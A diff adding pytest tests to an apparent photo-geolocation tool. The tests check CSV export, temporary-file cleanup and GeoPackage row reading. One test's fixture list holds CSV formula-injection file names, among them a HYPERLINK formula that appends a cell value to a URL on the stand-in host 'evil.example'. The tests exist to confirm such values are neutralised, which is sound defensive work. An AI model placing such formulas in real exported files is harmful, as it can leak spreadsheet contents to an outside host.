@@ -687,3 +687,127 @@ def test_csv_when_everything_failed(tmp_path, cells):
     assert out.read_text(encoding="utf-8").splitlines()[0].startswith("photo_path,")
     assert len(out.read_text(encoding="utf-8").splitlines()) == 1
     assert "unreadable" in failures_path(out).read_text(encoding="utf-8")
+
+
+# ------------------------------------------- issue 19.6: CSV formula injection
+
+
+FORMULA_NAMES = ['=HYPERLINK("https:evil.example?"&A1,"click").jpg', "+cmd.jpg", "-2+3.jpg",
+                 "@SUM(A1).jpg", "\tTAB.jpg", "\rCR.jpg"]
+
+
+def test_csv_text_that_a_spreadsheet_would_run_gets_a_quote_and_numbers_stay_numbers(
+        tmp_path, cells):
+    """A photo named ``=HYPERLINK(...)``.jpg is a live formula when the CSV is opened in a
+    spreadsheet: every text cell starting with = + - @ tab CR gets a leading ``'``
+    (OWASP); a negative longitude is a number and is written as one."""
+    folder = tmp_path / "photos"
+    folder.mkdir()
+    new_york = {"47e67": 1.0}  # any cells: the point is given
+    preds = [make_prediction(cells, folder / name, new_york, lat=40.71, lon=-74.0)
+             for name in FORMULA_NAMES]
+    preds.append(make_prediction(cells, folder / "plain.jpg", new_york, lat=-33.9, lon=-70.6))
+    fails = [PhotoFailure(str(folder / name), f"{name}") for name in FORMULA_NAMES]
+    main, fails_csv = write_csv(tmp_path / "run.csv", preds, fails, RUN)
+    with open(main, newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    with open(fails_csv, newline="", encoding="utf-8") as fh:
+        frows = list(csv.DictReader(fh))
+    assert [r["file_name"] for r in rows] == ["'" + n for n in FORMULA_NAMES] + ["plain.jpg"]
+    assert [r["file_name"] for r in frows] == ["'" + n for n in FORMULA_NAMES]
+    assert [r["reason"] for r in frows] == ["'" + n for n in FORMULA_NAMES]
+    # absolute paths start with "/", not a formula: as they were
+    assert [r["photo_path"] for r in rows] == [str(folder / n) for n in FORMULA_NAMES] + [
+        str(folder / "plain.jpg")]
+    # numbers untouched: negative coordinates are numbers, not neutralised text
+    assert all(r["lon"] == "-74.0" and r["lat"] == "40.71" for r in rows[:-1])
+    assert (rows[-1]["lat"], rows[-1]["lon"]) == ("-33.9", "-70.6")
+    assert all(not v.startswith("'") for r in rows for k, v in r.items()
+               if k not in ("file_name",) and not k.startswith("photo"))
+    assert float(rows[0]["cand1_lon"]) == preds[0].candidates[0].lon
+
+
+def test_a_csv_whose_failures_file_cannot_be_opened_leaves_no_temporary_file(tmp_path):
+    """The main file's temporary sibling is opened first; when the failures file's cannot
+    be (here its name is too long for the file system, the main one's is not), the first
+    is closed and removed, not leaked."""
+    stem = "r" * 230  # "<stem>.<12 hex>.tmp.csv" fits 255 bytes, "<stem>_failures..." not
+    target = tmp_path / f"{stem}.csv"
+    fd_dir = Path("/proc/self/fd")
+    if not fd_dir.is_dir():
+        pytest.skip("needs /proc to see open files")
+
+    def open_in_tmp():
+        found = []
+        for fd in fd_dir.iterdir():
+            try:
+                found.append(os.readlink(fd))
+            except OSError:
+                pass
+        return [t for t in found if str(tmp_path) in t]
+
+    with pytest.raises(OSError) as caught:
+        write_csv(target, [], [], RUN)
+    assert "File name too long" in str(caught.value) or caught.value.errno == 36
+    assert "_failures" in str(caught.value.filename)  # the second open failed
+    assert list(tmp_path.iterdir()) == []
+    assert open_in_tmp() == []
+
+
+# ---------------------------- issue 19.4: one reader of a predictions row (NULL kept)
+
+
+def _ogr_values(feature) -> dict:
+    return {feature.GetFieldDefnRef(i).GetName():
+            feature.GetField(i) if feature.IsFieldSetAndNotNull(i) else None
+            for i in range(feature.GetFieldCount())}
+
+
+def test_the_reader_names_only_fields_the_schema_writes():
+    """The dataclass's field names are the schema's: a field renamed in the schema and
+    not in the reader fails here, not as a silent None in the dock and the report."""
+    from dataclasses import fields
+
+    from inference.outputs.prediction_row import CandidateRow, PredictionRow
+
+    written = {f.name for f in schema.prediction_fields(3)}
+    read = {f.name for f in fields(PredictionRow)} - {"cells", "candidates"}
+    assert read <= written, read - written
+    assert {f.name for f in fields(CandidateRow)} <= {f.name for f in schema.CANDIDATE_FIELDS}
+
+
+def test_a_prediction_read_back_keeps_its_values_and_null_stays_none(scene, cells):
+    """Real GeoPackage: what the writer stored comes back; a NULL point (NaN in the
+    record) is None, never 0.0, and so are the other numbers the file has not."""
+    from inference.outputs.prediction_row import read_candidate, read_prediction
+
+    preds = list(scene["preds"])
+    nowhere = Prediction(**{**preds[2].__dict__, "lat": float("nan"), "lon": float("nan"),
+                            "confidence": float("nan"), "scene_confidence": None})
+    preds[2] = nowhere
+    write_geopackage(scene["out"], preds, [], cells, RUN)
+    ds = ogr.Open(str(scene["out"]))
+    cands = {}
+    for f in ds.GetLayerByName("candidates"):
+        values = _ogr_values(f)
+        cands.setdefault(values["photo_path"], []).append(read_candidate(values))
+    rows = {}
+    for f in ds.GetLayerByName("predictions"):
+        values = _ogr_values(f)
+        row = read_prediction(values, tuple(reversed(cands.get(values["photo_path"], []))))
+        rows[row.file_name] = row
+    ds = None
+    paris, tokyo, fiji = rows["a.jpg"], rows["b.jpg"], rows["c é.jpg"]
+    assert (paris.lat, paris.lon) == (48.85, 2.35) and paris.has_point
+    assert paris.confidence == pytest.approx(preds[0].confidence)
+    assert paris.exif_conflict is False and paris.error_km == pytest.approx(preds[0].error_km)
+    assert [c.rank for c in paris.candidates] == [1, 2, 3]  # sorted by the reader
+    assert paris.candidates[0].lat == pytest.approx(preds[0].candidates[0].lat)
+    assert [(c.level, c.token) for c in paris.cells] == [
+        (cp.level, cp.token) for cp in preds[0].best_cells]
+    assert tokyo.exif_conflict is True and tokyo.exif_lon == -74.0
+    assert fiji.lat is None and fiji.lon is None and not fiji.has_point
+    assert fiji.confidence is None and fiji.scene_confidence is None
+    assert fiji.exif_lat is None and fiji.error_km is None and fiji.exif_conflict is None
+    assert fiji.constraint_mass_removed is None and fiji.unconstrained_lat is None
+    assert fiji.scene == "urban" and fiji.photo_relpath.endswith("c é.jpg")
